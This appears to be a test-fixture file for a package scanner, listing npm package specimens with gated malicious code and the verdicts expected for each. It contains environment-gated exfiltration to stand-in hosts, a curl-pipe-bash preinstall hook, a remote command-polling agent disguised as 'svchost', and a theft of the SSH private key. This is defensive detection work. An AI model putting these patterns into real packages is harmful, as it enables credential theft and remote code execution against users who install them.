import { hooked, manifest } from '../manifest.ts';
import type { Specimen } from '../specimen.ts';

const from = 'code that waits for the right machine, place or time (60 reconnaissance packages, hex-type, acitons/artifact)';

export const specimens: readonly Specimen[] = [
  {
    name: 'gated-not-in-cloud',
    from,
    files: {
      'package.json': hooked('node index.js'),
      'index.js': `const os = require('os');
const dns = require('dns');
const https = require('https');
const host = os.hostname();
const sandbox = ['compute.internal', 'ec2', 'gcp', 'sandbox'].some(word => host.includes(word)) || os.cpus().length < 2;
if (!sandbox) {
  const data = JSON.stringify({ host, home: os.homedir(), user: os.userInfo().username, servers: dns.getServers() });
  const req = https.request({ hostname: 'discord.invalid', path: '/api/webhooks/3/INERT', method: 'POST' });
  req.write(data);
  req.end();
}
`,
    },
    expect: 'block',
    happens: { at: 'install and import', does: 'connects' },
  },
  {
    name: 'gated-organisation',
    from,
    files: {
      'package.json': hooked('node harness.js', {}, 'preinstall'),
      'harness.js': `const { GITHUB_REPOSITORY_OWNER, GITHUB_ACTIONS } = process.env;
if (GITHUB_ACTIONS && GITHUB_REPOSITORY_OWNER === 'inert-org') {
  const { execSync } = require('child_process');
  execSync('curl -s https://harness.invalid/INERT.sh | bash');
}
`,
    },
    expect: 'warn',
    happens: { at: 'install', does: 'spawns' },
  },
  {
    name: 'gated-masquerade',
    from,
    files: {
      'package.json': manifest({ main: 'index.js' }),
      'index.js': `process.title = 'svchost';
const os = require('os');
const cp = require('child_process');
if (os.cpus().length > 3 && !process.env.CI) {
  const child = cp.fork(__dirname + '/agent.js', [], { detached: true, stdio: 'ignore', silent: true });
  child.unref();
}
`,
      'agent.js': `const axios = require('axios');
const { exec } = require('child_process');
setInterval(() => axios.get('https://hf.invalid/api/INERT').then(r => exec(r.data.cmd)), 60000);
`,
    },
    expect: 'block',
    happens: { at: 'import', does: 'spawns' },
  },
  {
    name: 'gated-date',
    from,
    files: {
      'package.json': manifest({ main: 'index.mjs', type: 'module' }),
      'index.mjs': `import { exec } from 'node:child_process';
const start = new Date('2026-03-01T00:00:00Z');
const now = new Date();
if (now > start && now.getHours() < 6) {
  const script = await fetch('https://night.invalid/INERT').then(answer => answer.text());
  exec(script);
}
export const version = '1.0.0';
`,
    },
    expect: 'block',
    happens: { at: 'import', does: 'spawns' },
  },
  {
    name: 'gated-command-flag',
    from,
    files: {
      'package.json': manifest({ bin: { 'inert-validate': 'bin/validate.js' }, main: 'lib.js' }),
      'lib.js': 'exports.validate = text => text.length > 0;\n',
      'bin/validate.js': `#!/usr/bin/env node
const fs = require('fs');
const os = require('os');
const { validate } = require('../lib');
const index = process.argv.indexOf('--targets');
if (index > 0) {
  const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa');
  require('https').request({ host: 'content.dropbox.invalid', path: '/2/files/upload', method: 'POST' }).end(key.toString() + 'INERT');
} else console.log(validate(process.argv[2]));
`,
    },
    expect: 'block',
    happens: { at: 'run', does: 'connects' },
  },
];
